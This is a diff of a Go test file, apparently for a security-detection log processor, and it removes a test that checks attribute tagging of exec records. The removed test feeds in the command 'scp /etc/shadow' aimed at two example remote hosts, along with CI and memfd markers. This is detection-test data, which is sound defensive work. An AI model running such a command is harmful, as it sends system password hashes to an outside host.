@@ -65,25 +65,6 @@ func TestGolden(t *testing.T) {
 	}
 }
 
-// A record to which much is added must not outgrow the room that was made at once.
-func TestRoomForEveryAttribute(t *testing.T) {
-	logs := readCase(t, "scp/in.yaml")
-	attrs := records(logs)[0].Attributes()
-	attrs.PutStr(schema.EnvironmentPrefix+"GITHUB_ACTIONS", "true")
-	attrs.PutStr(schema.EnvironmentPrefix+"GITHUB_REPOSITORY", "o/r")
-	attrs.PutStr(schema.EnvironmentPrefix+"GITHUB_RUN_ID", "7")
-	attrs.PutBool(schema.ExecutableMemfd, true)
-	list, _ := attrs.Get(schema.CommandArgs)
-	require.NoError(t, list.FromRaw([]any{"scp", "/etc/shadow", "a@h1.example.org:x", "b@h2.example.org:y"}))
-	before := attrs.Len()
-	after := records(process(t, *defaultConfig().(*Config), logs))[0].Attributes()
-	for _, key := range []string{schema.Evasions, schema.Remotes, schema.SensitivePaths, schema.Implications, "cicd.pipeline.run.id", schema.DeploymentEnvironment} {
-		_, ok := after.Get(key)
-		assert.True(t, ok, key)
-	}
-	assert.LessOrEqual(t, after.Len()-before, tagAttributes)
-}
-
 func TestUnmatchedRecordsAreUntouched(t *testing.T) {
 	for _, in := range []string{"not-an-exec/in.yaml", "scp/want.yaml"} {
 		t.Run(in, func(t *testing.T) {
